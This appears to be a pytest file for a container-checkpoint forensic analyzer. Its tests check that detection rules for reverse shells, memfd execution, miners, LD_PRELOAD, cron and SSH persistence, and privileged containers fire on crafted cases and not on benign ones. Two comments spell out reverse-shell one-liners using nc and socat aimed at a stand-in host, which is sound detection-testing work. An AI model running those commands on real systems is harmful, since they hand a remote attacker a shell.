"""Every rule against crafted inputs: the situation it names fires it, the nearest benign
situation does not."""

from __future__ import annotations

from typing import Any

import pytest
from tests.findings.findings_crafted import (
    ANON_PRIVATE,
    FILE_PRIVATE,
    MEMFD,
    REGULAR,
    VDSO,
    R,
    W,
    X,
    fd,
    mm_image,
    pagemap_image,
    pipe,
    proc,
    report,
    rootfs,
    tcp,
)

from forensic_checkpoint.analysis.findings.run import find_all
from forensic_checkpoint.analysis.model.findings import Finding
from forensic_checkpoint.analysis.model.process import MemoryMap
from forensic_checkpoint.analysis.model.report import Holder, Report, SharedMemoryObject

ANY = "0.0.0.0"  # noqa: S104 (a socket address in data, nothing binds)
SERVER = proc(
    1, "python3", ppid=0, argv=["python3", "app.py"], fds=[fd(3, "INETSK", "socket:[1]", 90)]
)
LISTEN = tcp(90, [(1, 3)], remote=(ANY, 0), state="LISTEN")


def rules_of(
    rep: Report,
    images: dict[str, bytes] | None = None,
    files: dict[str, bytes] | None = None,
    spec: dict[str, Any] | None = None,
) -> dict[str, Finding]:
    found = find_all(rep, images or {}, files or {}, spec or {})
    return {f.rule: f for f in found}


# --- processes ----------------------------------------------------------------------------


def test_reverse_shell_direct_socket() -> None:
    sock_fds = [fd(n, "INETSK", "socket:[7]", 70) for n in (0, 1, 2)]
    shell = proc(14, "bash", ppid=1, argv=["bash", "-i"], fds=sock_fds)
    rep = report(processes=[SERVER, shell], sockets=[LISTEN, tcp(70, [(14, 0), (14, 1), (14, 2)])])
    found = rules_of(rep)
    f = found["reverse-shell"]
    assert f.severity == "critical"
    assert f.evidence.pid == 14 and f.evidence.fd == [0, 1, 2]
    assert f.evidence.socket == "tcp 10.0.0.2:40000 -> 10.0.0.9:4444 ESTABLISHED"
    assert "T1059.004" in f.attack
    assert found["shell-under-server"].evidence.pids == [1, 14]


def test_reverse_shell_through_a_pipe_to_a_socket_holder() -> None:
    # cat f | sh -i 2>&1 | nc host 4444 > f : sh writes into a pipe that nc reads
    sh = proc(20, "sh", ppid=19, fds=[fd(1, "PIPE", "pipe:[55]", 80, "O_WRONLY")])
    nc = proc(
        21,
        "nc",
        ppid=19,
        fds=[fd(0, "PIPE", "pipe:[55]", 81, "O_RDONLY"), fd(3, "INETSK", "socket:[8]", 82)],
    )
    parent = proc(19, "sh", ppid=0)
    rep = report(
        processes=[parent, sh, nc],
        sockets=[tcp(82, [(21, 3)])],
        pipes=[pipe(55, [(20, 1), (21, 0)])],
    )
    f = rules_of(rep)["reverse-shell"]
    assert f.evidence.pid == 20
    assert f.evidence.pids == [20, 21]
    assert "pipe:[55]" in f.evidence.details["path"]
    assert "pid 21 (nc)" in f.evidence.details["path"]


def test_shared_stdout_pipe_with_a_connected_writer_is_not_a_reverse_shell() -> None:
    # multi-proc: every process shares stdout (a pipe to conmon); one of them holds a socket
    sh = proc(1, "bash", ppid=0, fds=[fd(1, "PIPE", "pipe:[5]", 10, "O_WRONLY")])
    app = proc(
        11,
        "python3",
        fds=[fd(1, "PIPE", "pipe:[5]", 10, "O_WRONLY"), fd(3, "INETSK", "socket:[9]", 12)],
    )
    rep = report(
        processes=[sh, app],
        sockets=[tcp(12, [(11, 3)], remote=("127.0.0.1", 7070))],
        pipes=[pipe(5, [(1, 1), (11, 1)])],
    )
    assert rules_of(rep) == {}


def test_non_shell_with_stdio_on_socket() -> None:
    py = proc(5, "python3", ppid=0, fds=[fd(0, "INETSK", "socket:[3]", 30)])
    rep = report(processes=[py], sockets=[tcp(30, [(5, 0)])])
    found = rules_of(rep)
    assert "stdio-socket" in found and "reverse-shell" not in found


def test_listening_socket_on_stdio_is_not_a_remote_peer() -> None:
    py = proc(5, "python3", ppid=0, fds=[fd(0, "INETSK", "socket:[3]", 30)])
    rep = report(processes=[py], sockets=[tcp(30, [(5, 0)], remote=(ANY, 0), state="LISTEN")])
    assert rules_of(rep) == {}


def test_shell_under_server_only_for_server_parents() -> None:
    shell = proc(13, "bash", ppid=1, argv=["bash", "-c", "id"])
    assert "shell-under-server" in rules_of(report(processes=[SERVER, shell], sockets=[LISTEN]))
    # the same tree without a listening socket or a server name: an entrypoint script
    worker = proc(1, "worker", ppid=0)
    assert rules_of(report(processes=[worker, shell])) == {}
    # a shell as container init with a server below it (counter-blog) is normal
    init = proc(1, "bash", ppid=0)
    app = proc(6, "python3", ppid=1, fds=[fd(3, "INETSK", "socket:[1]", 90)])
    assert (
        rules_of(report(processes=[init, app], sockets=[tcp(90, [(6, 3)], state="LISTEN")])) == {}
    )


def test_memfd_exe_and_masquerade() -> None:
    p = proc(23, "3", exe="memfd:kworker", argv=["[kworker/1:1H]", "86400"])
    p.open_files = [fd(3, "MEMFD", "memfd:kworker", 40)]
    obj = SharedMemoryObject(
        shmid=9, kind="memfd", name="memfd:kworker", size_bytes=100, sha256="ab"
    )
    found = rules_of(report(processes=[p], shared_memory=[obj]))
    assert found["memfd-exec"].severity == "critical"
    assert found["memfd-exec"].evidence.fd == [3]
    assert found["memfd-exec"].evidence.sha256 == "ab"
    assert found["kernel-thread-masquerade"].evidence.pid == 23
    assert "deleted-exe" not in found


def test_deleted_exe() -> None:
    p = proc(7, "miner", exe="/usr/local/bin/miner")
    found = rules_of(report(processes=[p], rootfs=rootfs(deleted=["/usr/local/bin/miner"])))
    assert found["deleted-exe"].evidence.path == "/usr/local/bin/miner"


def test_drop_and_execute_and_dropped_executable() -> None:
    p = proc(22, "kworkerd", exe="/tmp/.x/kworkerd")
    fs = rootfs(("/tmp/.x/kworkerd", "file", "0o755"), ("/tmp/.x/tool", "file", "0o755"))
    found = rules_of(report(processes=[p], rootfs=fs))
    assert found["drop-and-execute"].evidence.path == "/tmp/.x/kworkerd"
    assert found["drop-and-execute"].evidence.details["hidden_directory"] == "True"
    assert found["dropped-executable"].evidence.path == "/tmp/.x/tool"
    assert "exec-from-temp" not in found  # the drop-and-execute finding says it already


def test_exec_from_temp_without_rootfs_entry() -> None:
    found = rules_of(report(processes=[proc(3, "x", exe="/dev/shm/x")]))
    assert "exec-from-temp" in found


@pytest.mark.parametrize(
    ("comm", "rule"),
    [("apt-get", "package-manager"), ("pip3", "package-manager"), ("nc", "network-tool")],
)
def test_tools_by_name(comm: str, rule: str) -> None:
    assert rule in rules_of(report(processes=[proc(3, comm)]))


def test_miner_pool_string_with_its_address() -> None:
    argv = ["xmrig -o stratum+tcp://pool.example:3333 -u w", "1"]
    p = proc(22, "xmrig", argv=argv)
    images = {"checkpoint/mm-22.img": mm_image([], arg_start=0x7FFD0000)}
    f = rules_of(report(processes=[p]), images)["miner-pool-string"]
    assert f.evidence.details["pool"] == "stratum+tcp://pool.example:3333"
    assert f.evidence.address == f"0x{0x7FFD0000 + argv[0].index('stratum'):x}"
    assert (
        rules_of(report(processes=[proc(2, "curl2", argv=["curl", "https://pool.example"])])) == {}
    )


# --- environment -------------------------------------------------------------------------


def test_ld_preload_grouped_over_processes() -> None:
    env = {"LD_PRELOAD": "/tmp/.x/libhook.so"}
    procs = [proc(22, "a", env=env), proc(23, "b", env=env), proc(24, "c", env={"LD_PRELOAD": ""})]
    procs[0].maps = [
        MemoryMap(
            start="0x1000", end="0x2000", size_bytes=4096, perms="r-xp", name="/tmp/.x/libhook.so"
        )
    ]
    found = find_all(report(processes=procs), {}, {}, {})
    preload = [f for f in found if f.rule == "ld-preload"]
    assert len(preload) == 2  # the empty value is its own group
    main = next(f for f in preload if f.evidence.path == "/tmp/.x/libhook.so")
    assert main.evidence.pids == [22, 23]
    assert main.evidence.details["library_mapped"] == "yes"


def test_history_evasion_and_glibc_tunables() -> None:
    p = proc(5, "bash", env={"HISTFILE": "/dev/null", "GLIBC_TUNABLES": "glibc.x=1"})
    found = rules_of(report(processes=[p]))
    assert found["history-evasion-env"].evidence.details["variable"] == "HISTFILE=/dev/null"
    assert "glibc-tunables" in found
    assert (
        rules_of(report(processes=[proc(5, "bash", env={"HISTFILE": "/root/.bash_history"})])) == {}
    )


# --- rootfs-diff --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "mode", "rule", "severity"),
    [
        ("/etc/cron.d/persist", "0o644", "cron-persistence", "high"),
        ("/var/spool/cron/crontabs/root", "0o600", "cron-persistence", "high"),
        ("/root/.ssh/authorized_keys", "0o600", "ssh-authorized-keys", "high"),
        ("/etc/ld.so.preload", "0o644", "ld-so-preload", "critical"),
        ("/etc/shadow", "0o640", "sensitive-etc-write", "high"),
        ("/root/.bashrc", "0o644", "shell-config-write", "medium"),
        ("/usr/bin/ps", "0o755", "binary-dir-write", "high"),
        ("/usr/lib/x86_64-linux-gnu/libz.so.1", "0o644", "library-dir-write", "medium"),
        ("/var/lib/dpkg/status", "0o644", "package-db-change", "low"),
        ("/opt/app/helper", "0o4755", "setuid-file", "high"),
        ("/etc/issue", "0o644", "etc-write", "info"),
    ],
)
def test_rootfs_rules(path: str, mode: str, rule: str, severity: str) -> None:
    found = find_all(report(rootfs=rootfs((path, "file", mode))), {}, {path: b"x"}, {})
    assert [(f.rule, f.severity) for f in found] == [(rule, severity)]
    assert found[0].evidence.path == path


def test_cron_content_is_quoted_and_mount_points_are_not_writes() -> None:
    from forensic_checkpoint.analysis.model.report import Mount

    line = b"*/5 * * * * root /tmp/x\n"
    rep = report(
        rootfs=rootfs(("/etc/cron.d/p", "file", "0o644"), ("/etc/hosts", "file", "0o755")),
        mounts=[Mount(mountpoint="/etc/hosts", origin="spec")],
    )
    found = find_all(rep, {}, {"/etc/cron.d/p": line}, {})
    assert [f.rule for f in found] == ["cron-persistence"]
    assert found[0].evidence.details["content"] == line.decode()


def test_shell_history_cleared() -> None:
    rep = report(rootfs=rootfs(("/root/.bash_history", "symlink", "0o777")))
    rep.rootfs.changed[0].link_target = "/dev/null"
    assert "shell-history-cleared" in rules_of(rep)
    assert "shell-history-cleared" in rules_of(
        report(rootfs=rootfs(deleted=["/home/u/.bash_history"]))
    )


# --- spec.dump ----------------------------------------------------------------------------


def test_sensitive_host_mount() -> None:
    spec = {
        "mounts": [
            {"destination": "/host", "source": "/", "type": "bind", "options": ["rbind"]},
            {
                "destination": "/var/run/secrets/x",
                "source": "/var/lib/kubelet/pods/u/volumes/x",
                "type": "bind",
                "options": ["rbind", "ro"],
            },
        ]
    }
    found = find_all(report(), {}, {}, spec)
    assert [(f.rule, f.evidence.path) for f in found] == [("sensitive-host-mount", "/host")]


def test_privileged_and_added_capabilities() -> None:
    from forensic_checkpoint.analysis.sections.task_details import CAPABILITIES

    spec = {
        "process": {"capabilities": {"bounding": CAPABILITIES}},
        "linux": {"namespaces": [{"type": "mount"}, {"type": "uts"}, {"type": "ipc"}]},
    }
    found = rules_of(report(), spec=spec)
    assert "all capabilities" in found["privileged-container"].evidence.details["signs"]
    assert "host pid namespace" in found["privileged-container"].evidence.details["signs"]
    assert "CAP_SYS_ADMIN" in found["added-capabilities"].evidence.details["dangerous"]
    default = {
        "process": {"capabilities": {"bounding": ["CAP_CHOWN", "CAP_KILL", "CAP_NET_RAW"]}},
        "linux": {"namespaces": [{"type": t} for t in ("pid", "network", "ipc", "mount")]},
    }
    assert rules_of(report(), spec=default) == {}


# --- memory mappings ------------------------------------------------------------------------

TEXT = (0x400000, 0x402000)


def _mapping_images(
    vmas: list[tuple[int, int, int, int]], runs: list[tuple[int, int]]
) -> dict[str, bytes]:
    return {"checkpoint/mm-9.img": mm_image(vmas), "checkpoint/pagemap-9.img": pagemap_image(runs)}


def _maps_proc(exe: str = "/usr/bin/app") -> Process:
    return proc(9, "app", exe=exe)


from forensic_checkpoint.analysis.model.process import Process  # noqa: E402


def test_compel_patch_page_is_not_modified_code_but_a_second_page_is() -> None:
    vmas = [(*TEXT, R | X, REGULAR | FILE_PRIVATE)]
    only_patch = _mapping_images(vmas, [(0x400000, 1)])
    assert rules_of(report(processes=[_maps_proc()]), only_patch) == {}
    patched_too = _mapping_images(vmas, [(0x400000, 2)])
    f = rules_of(report(processes=[_maps_proc()]), patched_too)["modified-code"]
    assert f.evidence.address == "0x401000" and f.evidence.bytes == 4096


def test_modified_code_in_a_later_library() -> None:
    lib = (0x7F0000000000, 0x7F0000004000)
    vmas = [(*TEXT, R | X, REGULAR | FILE_PRIVATE), (*lib, R | X, REGULAR | FILE_PRIVATE)]
    imgs = _mapping_images(vmas, [(0x400000, 1), (0x7F0000002000, 1)])
    f = rules_of(report(processes=[_maps_proc()]), imgs)["modified-code"]
    assert f.evidence.address == "0x7f0000002000"


def test_rwx_anon_exec_memfd_and_vdso() -> None:
    rwx = (0x10000000, 0x10004000)
    anon_x = (0x20000000, 0x20001000)
    memfd = (0x30000000, 0x30001000)
    vdso = (0x7FFF0000, 0x7FFF2000)
    vmas = [
        (*TEXT, R | X, REGULAR | FILE_PRIVATE),
        (*rwx, R | W | X, REGULAR | ANON_PRIVATE),
        (*anon_x, R | X, REGULAR | ANON_PRIVATE),
        (*memfd, R | X, REGULAR | MEMFD | FILE_PRIVATE),
        (*vdso, R | X, REGULAR | VDSO | ANON_PRIVATE),
    ]
    found = find_all(
        report(processes=[_maps_proc()]), _mapping_images(vmas, [(vdso[0], 2)]), {}, {}
    )
    assert sorted((f.rule, f.evidence.address) for f in found) == [
        ("anonymous-exec-mapping", "0x20000000"),
        ("memfd-exec-mapping", "0x30000000"),
        ("rwx-mapping", "0x10000000"),
    ]
    # a JIT runtime maps RWX by design
    jit = find_all(
        report(processes=[_maps_proc("/usr/bin/node")]), _mapping_images(vmas, []), {}, {}
    )
    assert {f.rule for f in jit} == {"memfd-exec-mapping"}


def test_connection_graph_joins_pipe_ends_and_sockets() -> None:
    from forensic_checkpoint.analysis.findings.graph import build_graph

    sh = proc(20, "sh", ppid=19, fds=[fd(1, "PIPE", "pipe:[55]", 80, "O_WRONLY")])
    nc = proc(
        21,
        "nc",
        ppid=19,
        fds=[fd(0, "PIPE", "pipe:[55]", 81, "O_RDONLY"), fd(3, "INETSK", "socket:[8]", 82)],
    )
    rep = report(
        processes=[proc(19, "sh", ppid=0), sh, nc],
        sockets=[tcp(82, [(21, 3)])],
        pipes=[pipe(55, [(20, 1), (21, 0)])],
    )
    graph = build_graph(rep)
    edges = {(e.source, e.target, e.fd, e.access) for e in graph.edges}
    assert edges == {
        ("pid:20", "pipe:55", 1, "write"),
        ("pid:21", "pipe:55", 0, "read"),
        ("pid:21", "socket:82", 3, "read-write"),
    }
    assert {n.kind for n in graph.nodes} == {"process", "pipe", "socket"}
    assert len(graph.stdio_chains) == 1
    chain = graph.stdio_chains[0]
    assert chain.startswith("pid 20 (sh) fd 1 -> pipe:[55] -> pid 21 (nc) fd 0")
    assert "10.0.0.9:4444 ESTABLISHED" in chain


def test_network_rules() -> None:
    miner = proc(
        30,
        "xmrig",
        argv=["xmrig", "-o", "stratum+tcp://pool.example:3333"],
        fds=[fd(3, "INETSK", "socket:[1]", 60)],
    )
    meta = proc(31, "curl", fds=[fd(3, "INETSK", "socket:[2]", 61)])
    api = proc(
        32, "app", env={"KUBERNETES_SERVICE_HOST": "10.96.0.1"}, fds=[fd(3, "INETSK", "s", 62)]
    )
    sniffer = proc(33, "tcpd", fds=[fd(4, "PACKETSK", "packet", 63)])
    rep = report(
        processes=[miner, meta, api, sniffer],
        sockets=[
            tcp(60, [(30, 3)], remote=("203.0.113.7", 3333)),
            tcp(61, [(31, 3)], remote=("169.254.169.254", 80)),
            tcp(62, [(32, 3)], remote=("10.96.0.1", 443)),
        ],
    )
    found = rules_of(rep)
    assert found["miner-pool-connection"].evidence.socket == (
        "tcp 10.0.0.2:40000 -> 203.0.113.7:3333 ESTABLISHED"
    )
    assert found["metadata-service-connection"].evidence.pid == 31
    assert found["api-server-connection"].severity == "low"
    assert found["packet-socket"].evidence.fd == [4]


def test_a_miner_port_alone_is_not_a_miner() -> None:
    # the attack sample's C2 listens on 4444, one of Falco's miner ports
    shell = proc(14, "python3", fds=[fd(3, "INETSK", "socket:[1]", 60)])
    rep = report(processes=[shell], sockets=[tcp(60, [(14, 3)], remote=("10.0.0.9", 4444))])
    assert "miner-pool-connection" not in rules_of(rep)


def test_reverse_shell_through_a_socketpair_relay() -> None:
    # socat TCP:c2:4444 EXEC:bash: bash's stdio is one end of a UNIX socketpair
    from forensic_checkpoint.analysis.model.report import Socket

    def unix(file_id: int, inode: int, peer: int, holders: list[tuple[int, int]]) -> Socket:
        return Socket(
            id=file_id,
            inode=inode,
            peer_inode=peer,
            held_by=[Holder(pid=p, fd=f) for p, f in holders],
            family="unix",
            type="stream",
            state="ESTABLISHED",
        )

    bash = proc(41, "bash", ppid=40, fds=[fd(n, "UNIXSK", "socket:[501]", 70) for n in (0, 1, 2)])
    socat = proc(
        40, "socat", ppid=0, fds=[fd(5, "UNIXSK", "socket:[502]", 71), fd(3, "INETSK", "s", 72)]
    )
    rep = report(
        processes=[socat, bash],
        sockets=[
            unix(70, 501, 502, [(41, 0), (41, 1), (41, 2)]),
            unix(71, 502, 501, [(40, 5)]),
            tcp(72, [(40, 3)]),
        ],
    )
    found = rules_of(rep)
    shell = found["reverse-shell"]
    assert shell.evidence.pid == 41 and shell.evidence.pids == [40, 41]
    assert (
        "unix socket:[501] <-> socket:[502] of pid 40 (socat) fd 5"
        in shell.evidence.details["path"]
    )
    assert "network-tool" in found  # socat itself


def test_bundled_rules_json_is_generated_from_rules_yaml() -> None:
    """The analyzer loads rules.json (no YAML parser per run); `make rules` writes it."""
    from importlib import resources

    from forensic_checkpoint.analysis.findings import engine

    folder = resources.files("forensic_checkpoint.analysis.findings")
    text = folder.joinpath("rules.yaml").read_text(encoding="utf-8")
    shipped = folder.joinpath("rules.json").read_text(encoding="utf-8")
    assert shipped == engine.rules_json(text), "rules.json is stale: run `make rules`"
    assert engine.default_rules() == engine.parse_rules(text)
    assert len(engine.default_rules().rules) > 30


def test_a_rules_document_must_be_a_mapping() -> None:
    from forensic_checkpoint.analysis.findings import engine
    from forensic_checkpoint.errors import ConfigError

    with pytest.raises(ConfigError, match="mapping"):
        engine.parse_rules("- just\n- a list\n")
